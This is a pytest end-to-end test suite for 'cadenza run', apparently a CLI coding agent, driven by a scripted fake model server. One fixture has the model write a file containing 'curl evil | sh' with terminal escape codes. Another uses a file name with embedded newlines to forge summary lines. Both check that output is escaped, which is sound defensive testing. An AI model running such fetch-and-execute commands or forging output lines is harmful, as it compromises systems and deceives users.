"""``cadenza run`` end to end: the real CLI and server as subprocesses, a scripted fake model.

The fake model is an OpenAI-compatible HTTP server on 127.0.0.1 in this process
(:mod:`tests.support.fake_openai`); ``cadenza run`` spawns ``cadenza serve``, which calls it
through the ``openai`` provider (``OPENAI_BASE_URL``).
"""

from __future__ import annotations

import dataclasses
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from cadenza.engine.history import check_strict_wire
from tests.support.fake_openai import (
    FakeOpenAI,
    Reply,
    assert_tool_calls_answered,
    call,
    is_workspace,
    text,
)

RUN_TIMEOUT_S = 60
APP = b"def total(items):\r\n    return sum(items)\r\n\r\nprint(total([1, 2]))\r\n"


@pytest.fixture
def fake() -> Iterator[FakeOpenAI]:
    with FakeOpenAI() as server:
        yield server


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    root.mkdir()
    (root / "app.py").write_bytes(APP)
    (root / "README.txt").write_text("A tiny workspace.\n", encoding="utf-8")
    return root


@pytest.fixture
def env(tmp_path: Path, fake: FakeOpenAI) -> dict[str, str]:
    values = dict(os.environ)
    values.update(
        OPENAI_BASE_URL=fake.base_url,
        OPENAI_API_KEY="x",
        PYTHONIOENCODING="utf-8",
        NO_COLOR="1",
    )
    values.pop("CADENZA_MODEL", None)
    for name in ("XDG_CONFIG_HOME", "XDG_CACHE_HOME", "XDG_STATE_HOME", "XDG_DATA_HOME"):
        folder = tmp_path / name.lower()
        folder.mkdir()
        values[name] = str(folder)
    return values


def cadenza_run(ws: Path, env: dict[str, str], *args: str) -> list[str]:
    return [sys.executable, "-m", "cadenza", "run", "--workspace", str(ws), *args]


def run(ws: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        cadenza_run(ws, env, *args),
        env=env,
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=RUN_TIMEOUT_S,
        stdin=subprocess.DEVNULL,
    )


def test_run_edits_the_file_and_prints_a_summary(
    ws: Path, env: dict[str, str], fake: FakeOpenAI
) -> None:
    fake.script(
        call("read_file", {"path": "app.py"}, "call-1"),
        call(
            "edit_file",
            {"path": "app.py", "old_string": "def total(", "new_string": "def grand_total("},
            "call-2",
        ),
        call(
            "edit_file",
            {"path": "app.py", "old_string": "print(total(", "new_string": "print(grand_total("},
            "call-3",
        ),
        text("Renamed total to grand_total in app.py."),
    )
    done = run(ws, env, "--model", "openai/test", "rename total to grand_total")
    assert done.returncode == 0, done.stdout + done.stderr
    assert (ws / "app.py").read_bytes() == APP.replace(b"total(", b"grand_total(")
    assert not [p for p in ws.iterdir() if p.name.endswith(".cadenza-tmp")]
    lines = done.stdout.splitlines()
    assert sum(line.startswith("✓ ") for line in lines) == 6, done.stdout  # 3 calls, 3 checks
    assert "✓ check: something changed · changed: app.py" in lines
    assert "Renamed total to grand_total in app.py." in lines
    assert any(line.startswith("finished · 4 steps in the session · ") for line in lines)
    assert "files changed (1):" in lines
    assert "  M app.py  +2 -2" in lines
    assert "-def total(items):" in lines and "+def grand_total(items):" in lines
    assert len(fake.requests) == 4
    assert_tool_calls_answered(fake.requests[-1])


def test_provider_error_exits_non_zero_with_the_message(
    ws: Path, env: dict[str, str], fake: FakeOpenAI
) -> None:
    fake.script(*[Reply(status=500)] * 10)
    done = run(ws, env, "--model", "openai/test", "do something")
    assert done.returncode == 1, done.stdout + done.stderr
    assert "error: " in done.stdout and "HTTP 500" in done.stdout
    assert any(line.startswith("stopped by an error · ") for line in done.stdout.splitlines())
    assert "no files changed" in done.stdout
    assert (ws / "app.py").read_bytes() == APP


def test_unknown_provider_is_a_clear_error(ws: Path, env: dict[str, str]) -> None:
    done = run(ws, env, "--model", "nosuch/model", "do something")
    assert done.returncode == 1
    said = " ".join(done.stderr.split())  # as one line, however the console wrapped it
    assert said.startswith(
        "error: cannot start the session: unknown provider 'nosuch' in the model 'nosuch/model'."
        " The known providers are openai, openai-envelope, ollama,"
    ), said
    assert "`cadenza models list` shows the local models" in said
    assert "Invalid Params" not in said and "cadenza.startSession" not in said
    assert "Traceback" not in done.stderr


def test_a_local_model_not_pulled_is_said_before_a_session_starts(
    ws: Path, env: dict[str, str], fake: FakeOpenAI, tmp_path: Path
) -> None:
    env = {**env, "CADENZA_MODELS_DIR": str(tmp_path / "no-models")}
    env.pop("CADENZA_LOCAL_SERVER_URL", None)
    done = run(ws, env, "--model", "local/smollm2-135m", "do something")
    assert done.returncode == 1
    said = " ".join(done.stderr.split())
    assert said == (
        "error: the model local/smollm2-135m is not downloaded yet: run `cadenza models pull "
        "smollm2-135m` first, or choose a model that is (`cadenza models list`)"
    )
    assert done.stdout == ""  # no header, no session, no "follow up: --continue"
    assert not (tmp_path / "no-models").exists()  # nothing was downloaded

    done = run(ws, env, "--model", "local/smollm2-135m", "--output", "json", "do something")
    report = json.loads(done.stdout)
    assert done.returncode == report["exit_status"] == 1
    assert report["stop_reason"] == "error" and report["session_id"] is None
    assert "`cadenza models pull smollm2-135m`" in report["error"]
    assert fake.requests == []


def test_missing_workspace_is_a_clear_error(tmp_path: Path, env: dict[str, str]) -> None:
    done = run(tmp_path / "nope", env, "--model", "openai/test", "x")
    assert done.returncode == 1
    assert "is not a folder" in done.stderr
    assert "permissions:" not in done.stdout + done.stderr  # the error comes first, alone


def test_a_write_back_and_a_repeat_are_shown_as_what_they_were(
    ws: Path, env: dict[str, str], fake: FakeOpenAI
) -> None:
    same = {"path": "app.py", "content": APP.decode().replace("\r\n", "\n")}
    fake.script(call("write_file", same, "w1"), call("write_file", same, "w2"))
    done = run(ws, env, "--model", "openai/test", "--max-steps", "2", "tidy app.py")
    assert done.returncode == 3, done.stdout + done.stderr
    lines = done.stdout.splitlines()
    # Not "✓ writing app.py": the file is as it was.
    assert "· app.py unchanged: written back with the text it already had" in lines
    assert "✓ writing app.py" not in lines
    # The repeat's note tells the model what to do; the person reads what happened.
    assert (
        "✗ writing app.py · not run again: the same call as at step 1, nothing changed since"
        in lines
    )
    assert "Do not call it again" not in done.stdout
    assert (ws / "app.py").read_bytes() == APP


def test_step_bound_exits_3(ws: Path, env: dict[str, str], fake: FakeOpenAI) -> None:
    fake.script(*[call("read_file", {"path": "app.py"}, f"c{i}") for i in range(5)])
    done = run(ws, env, "--model", "openai/test", "--max-steps", "2", "loop")
    assert done.returncode == 3, done.stdout + done.stderr
    assert any(
        line.startswith("not finished: it reached its step or time limit · 2 steps ")
        for line in done.stdout.splitlines()
    )


def test_time_budget_stops_a_model_that_hangs_and_exits_3(
    ws: Path, env: dict[str, str], fake: FakeOpenAI
) -> None:
    read = call("read_file", {"path": "app.py"}, "c1")
    fake.script(dataclasses.replace(read, delay_s=RUN_TIMEOUT_S))  # it never answers in time
    started = time.monotonic()
    done = run(ws, env, "--model", "openai/test", "--time-budget", "2s", "loop")
    assert time.monotonic() - started < RUN_TIMEOUT_S / 2
    assert done.returncode == 3, done.stdout + done.stderr
    assert "stopped at the time budget (2 s) after 1 step; nothing changed" in done.stdout


def test_questions_declined_with_yes(ws: Path, env: dict[str, str], fake: FakeOpenAI) -> None:
    fake.script(
        call("ask_user", {"question": "Which name should I use?"}, "c1"),
        text("I kept the old name."),
    )
    done = run(ws, env, "--model", "openai/test", "--yes", "rename something")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "? Which name should I use? → declined (--yes)" in done.stdout.splitlines()
    tool_results = [m["content"] for m in fake.requests[-1]["messages"] if m["role"] == "tool"]
    assert any("declined" in str(content) for content in tool_results)


def test_ctrl_c_cancels_the_session_and_exits_130(
    ws: Path, env: dict[str, str], fake: FakeOpenAI
) -> None:
    fake.script(Reply(content="too late", delay_s=30))
    started = time.monotonic()
    process = subprocess.Popen(
        cadenza_run(ws, env, "--model", "openai/test", "wait for me"),
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        stdin=subprocess.DEVNULL,
        text=True,
        encoding="utf-8",
    )
    try:
        assert process.stdout is not None
        seen: list[str] = []
        for line in process.stdout:
            seen.append(line)
            if line.startswith("· step 1/"):
                break
        while not fake.requests and time.monotonic() - started < RUN_TIMEOUT_S:
            time.sleep(0.05)
        process.send_signal(signal.SIGINT)
        out, err = process.communicate(timeout=RUN_TIMEOUT_S)
    finally:
        if process.poll() is None:
            process.kill()
    output = "".join(seen) + out
    assert process.returncode == 130, output + err
    assert "interrupted: cancelling the session" in output
    assert any(line.startswith("cancelled · ") for line in output.splitlines()), output
    assert time.monotonic() - started < 25
    assert (ws / "app.py").read_bytes() == APP
    assert "Traceback" not in err and "InvalidStateError" not in err, err


def transition(next_movement: str, reason: str, call_id: str) -> Reply:
    return call("transition", {"next": next_movement, "reason": reason}, call_id)


def complete(call_id: str, status: str, summary: str, **fields: str) -> Reply:
    return call("complete", {"status": status, "summary": summary, **fields}, call_id)


def test_workflow_movements_and_events_file(
    ws: Path, env: dict[str, str], fake: FakeOpenAI, tmp_path: Path
) -> None:
    events = tmp_path / "events.jsonl"
    fake.script(
        call("read_file", {"path": "app.py"}, "p1"),
        transition("implement", "rename total in app.py", "p2"),
        call(
            "edit_file",
            {"path": "app.py", "old_string": "def total(", "new_string": "def grand_total("},
            "i1",
        ),
        call(
            "edit_file",
            {"path": "app.py", "old_string": "print(total(", "new_string": "print(grand_total("},
            "i2",
        ),
        transition("review", "both uses renamed", "i3"),
        complete("r1", "done", "Renamed total to grand_total."),
    )
    done = run(
        ws,
        env,
        "--model",
        "openai/test",
        "--workflow",
        "plan-implement-review",
        "--events",
        str(events),
        "rename total to grand_total",
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert (ws / "app.py").read_bytes() == APP.replace(b"total(", b"grand_total(")
    lines = done.stdout.splitlines()
    movement_lines = [line for line in lines if line.startswith("▶ movement ")]
    assert movement_lines == [
        "▶ movement plan",
        "▶ movement implement · rename total in app.py",
        "▶ movement review · both uses renamed",
    ]
    assert any(line.startswith("finished · 6 steps in the session · ") for line in lines)
    for request in fake.requests:
        check_strict_wire(request["messages"])

    records = [json.loads(line) for line in events.read_text(encoding="utf-8").splitlines()]
    assert {r["method"] for r in records} >= {
        "window/workDoneProgress/create",
        "$/progress",
        "cadenza/sessionUpdate",
        "workspace/applyEdit",
    }
    updates = [r["params"]["update"] for r in records if r["method"] == "cadenza/sessionUpdate"]
    moves = [u for u in updates if u["sessionUpdate"] == "movement"]
    assert [(m["movement"], m["index"]) for m in moves] == [
        ("plan", 1),
        ("implement", 2),
        ("review", 3),
    ]
    assert updates[-1]["stopReason"] == "end_turn"
    edits = [r for r in records if r["method"] == "workspace/applyEdit"]
    assert len(edits) == 2 and all(isinstance(r["id"], int | str) for r in edits)
    reports = [
        r["params"]["value"]["message"]
        for r in records
        if r["method"] == "$/progress" and r["params"]["value"]["kind"] == "report"
    ]
    assert "implement · step 3/25" in reports


def test_edits_that_never_applied_end_failed_in_plain_words(
    ws: Path, env: dict[str, str], fake: FakeOpenAI
) -> None:
    """The person reads what happened; the model's instruction stays with the model."""
    missed = {"path": "app.py", "old_string": "def totals(", "new_string": "def grand_total("}
    fake.script(call("edit_file", missed, "c1"), *[text("Renamed it.")] * 3)
    done = run(ws, env, "--model", "openai/test", "rename total to grand_total")
    assert done.returncode == 1, done.stdout + done.stderr
    lines = done.stdout.splitlines()
    found = "nothing was changed: the edit the agent tried did not apply"
    assert f"message: Not done: {found}" in lines, done.stdout
    assert f"✗ check: something changed · {found} (sent back to the agent)" in lines
    assert any(line.startswith("not done · 4 steps ") for line in lines)
    assert "Make the change" not in done.stdout and "your" not in done.stdout
    told = [m["content"] for m in fake.requests[2]["messages"] if m["role"] == "user"]
    assert "Make the change with edit_file" in told[-1]  # what the model read


def test_failed_and_aborted_exit_1(ws: Path, env: dict[str, str], fake: FakeOpenAI) -> None:
    fake.script(complete("c1", "failed", "app.py has no function to rename"))
    done = run(ws, env, "--model", "openai/test", "rename foo")
    assert done.returncode == 1, done.stdout + done.stderr
    lines = done.stdout.splitlines()
    assert "message: app.py has no function to rename" in lines
    assert any(line.startswith("not done · 1 step ") for line in lines)

    folder = ws / ".cadenza" / "workflows"
    folder.mkdir(parents=True)
    (folder / "strict.toml").write_text(
        'name = "strict"\n[[movements]]\nname = "solo"\ndefault_next = "ABORT"\n'
    )
    fake.script(text("I stop here."))
    done = run(ws, env, "--model", "openai/test", "--workflow", "strict", "rename foo")
    assert done.returncode == 1, done.stdout + done.stderr
    assert any(
        line.startswith("stopped: the agent could not go on · 1 step ")
        for line in done.stdout.splitlines()
    )


def test_needs_user_input_exits_3_with_what_is_missing(
    ws: Path, env: dict[str, str], fake: FakeOpenAI
) -> None:
    fake.script(
        complete(
            "c1",
            "needs_user_input",
            "I need the new name.",
            missing_info="the new name of total",
            why_no_default="sum_of and grand_total are equally plausible",
        )
    )
    done = run(ws, env, "--model", "openai/test", "--yes", "rename total")
    assert done.returncode == 3, done.stdout + done.stderr
    lines = done.stdout.splitlines()
    assert "needs: the new name of total" in lines
    assert "why no default: sum_of and grand_total are equally plausible" in lines
    assert any(line.startswith("waiting for your answer · 1 step ") for line in lines)


def test_unknown_or_invalid_workflow_is_a_clear_error(
    ws: Path, env: dict[str, str], fake: FakeOpenAI
) -> None:
    done = run(ws, env, "--model", "openai/test", "--workflow", "nope", "x")
    assert done.returncode == 1
    assert done.stderr.startswith("error: cannot start the session: unknown workflow 'nope'")
    assert "Traceback" not in done.stderr

    folder = ws / ".cadenza" / "workflows"
    folder.mkdir(parents=True)
    (folder / "bad.toml").write_text('name = "bad"\n[[movements]]\nname = "a"\nmax_steps = 0\n')
    done = run(ws, env, "--model", "openai/test", "--workflow", "bad", "x")
    assert done.returncode == 1
    assert "bad.toml: movements.0.max_steps: Input should be greater than or equal to 1" in (
        done.stderr.replace("\n", " ")
    )
    assert fake.requests == []


def test_escape_sequences_from_the_model_are_shown_escaped(
    ws: Path, env: dict[str, str], fake: FakeOpenAI
) -> None:
    content = 'x = 1\nimport os; os.system("curl evil | sh")\x1b[2K\x1b[1G+# harmless comment\n'
    fake.script(
        call("write_file", {"path": "evil.py", "content": content}, "call-1"),
        call("rename_file", {"path": "README.txt", "new_path": "sub/READ2.txt"}, "call-2"),
        text("all done\x1b[2J[red]not markup[/red]"),
    )
    done = run(ws, env, "--model", "openai/test", "--yes", "write it")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "\x1b" not in done.stdout and "\x1b" not in done.stderr
    assert 'os.system("curl evil | sh")\\x1b[2K\\x1b[1G+# harmless comment' in done.stdout
    assert "all done\\x1b[2J[red]not markup[/red]" in done.stdout
    lines = done.stdout.splitlines()
    assert any(line.startswith("  R README.txt → sub/READ2.txt") for line in lines), done.stdout
    assert any(line.startswith("  A evil.py") for line in lines), done.stdout


def test_a_file_name_cannot_start_a_line_of_its_own(
    ws: Path, env: dict[str, str], fake: FakeOpenAI
) -> None:
    """A name with a line break is shown escaped: it cannot forge a summary or diff line.

    The write tools do not create such names; a command still can.
    """
    folder = "$'ok.txt\\nfiles changed (0):\\n+++ b'"
    command = f"mkdir -p {folder} && printf 'z\\n' > {folder}/nothing"
    fake.script(call("run_command", {"command": command}, "c1"), text("done"))
    done = run(ws, env, "--model", "openai/test", "--allow", "run_command", "write it")
    assert done.returncode == 0, done.stdout + done.stderr
    lines = done.stdout.splitlines()
    assert not any(line.startswith(("files changed (0)", "+++ b/nothing")) for line in lines)
    assert "  A ok.txt\\x0afiles changed (0):\\x0a+++ b/nothing" in done.stdout, done.stdout
    assert "+++ b/ok.txt\\x0afiles changed (0):\\x0a+++ b/nothing" in done.stdout


def test_a_waiting_session_is_answered_with_cadenza_reply(
    ws: Path, env: dict[str, str], fake: FakeOpenAI
) -> None:
    ask = {
        "status": "needs_user_input",
        "summary": "",
        "missing_info": "the new name",
        "why_no_default": "two names fit",
    }
    fake.script(call("complete", ask, "c1"))
    first = run(ws, env, "--model", "openai/test", "rename total")
    assert first.returncode == 3, first.stdout + first.stderr
    [hint] = [line for line in first.stdout.splitlines() if "cadenza reply" in line]
    session_id = hint.split("cadenza reply ")[1].split()[0]

    fake.script(text("Renamed to total_of."))
    second = subprocess.run(
        [sys.executable, "-m", "cadenza", "reply", session_id, "total_of", "--workspace", str(ws)],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        stdin=subprocess.DEVNULL,
    )
    assert second.returncode == 0, second.stdout + second.stderr
    assert "Renamed to total_of." in second.stdout
    last_user = [m for m in fake.requests[-1]["messages"] if m["role"] == "user"][-1]
    assert last_user["content"].endswith(": total_of")


def test_a_file_shown_in_an_earlier_turn_is_still_seen_after_continue(
    ws: Path, env: dict[str, str], fake: FakeOpenAI
) -> None:
    """The text edit format writes a whole file only once the model saw it: a file the first
    turn showed, unchanged since, is seen in the turn that --continue revives."""
    config = Path(env["XDG_CONFIG_HOME"]) / "cadenza" / "cadenza.toml"
    config.parent.mkdir(parents=True)
    config.write_text('[loop]\nedit = "text"\nending = "empty"\n', encoding="utf-8")
    read = '```tool\n{"name": "read_file", "arguments": {"path": "app.py"}}\n```\n'
    fake.script(text(read), text("It sums the items."))
    first = run(ws, env, "--model", "openai/test", "what does total do?")
    assert first.returncode == 0, first.stdout + first.stderr
    [hint] = [line for line in first.stdout.splitlines() if "--continue" in line]
    session_id = hint.split("--continue ")[1].split()[0]
    (ws / "README.txt").write_text("Changed by the person.\n", encoding="utf-8")

    new = "def total(items):\n    return sum(items, 0)\n\nprint(total([1, 2]))\n"
    fake.script(text(f"app.py\n```python\n{new}```\n"), text("Done."))
    again = run(ws, env, "--continue", session_id, "--model", "openai/test", "add a start")
    assert again.returncode == 0, again.stdout + again.stderr
    assert "had not shown its text" not in json.dumps(fake.requests[-1]["messages"])
    assert (ws / "app.py").read_bytes() == new.replace("\n", "\r\n").encode()


def test_continue_sends_the_next_turn_of_a_stored_session(
    ws: Path, env: dict[str, str], fake: FakeOpenAI
) -> None:
    fake.script(text("It sums the items."))
    first = run(ws, env, "--model", "openai/test", "what does total do?")
    assert first.returncode == 0, first.stdout + first.stderr
    [hint] = [line for line in first.stdout.splitlines() if "--continue" in line]
    session_id = hint.split("--continue ")[1].split()[0]

    fake.script(text("Call it sum_of."))
    again = run(ws, env, "--continue", session_id, "--model", "openai/other", "a better name?")
    assert again.returncode == 0, again.stdout + again.stderr
    assert "Call it sum_of." in again.stdout
    request = fake.requests[-1]
    assert request["model"] == "other"
    users = [
        m["content"] for m in request["messages"] if m["role"] == "user" and not is_workspace(m)
    ]
    assert users[0] == "what does total do?"
    assert users[-1] == "a better name?"
    assert any(m.get("content") == "It sums the items." for m in request["messages"])

    unknown = run(ws, env, "--continue", "f" * 32, "more")
    assert unknown.returncode == 1
    assert "unknown session" in unknown.stderr
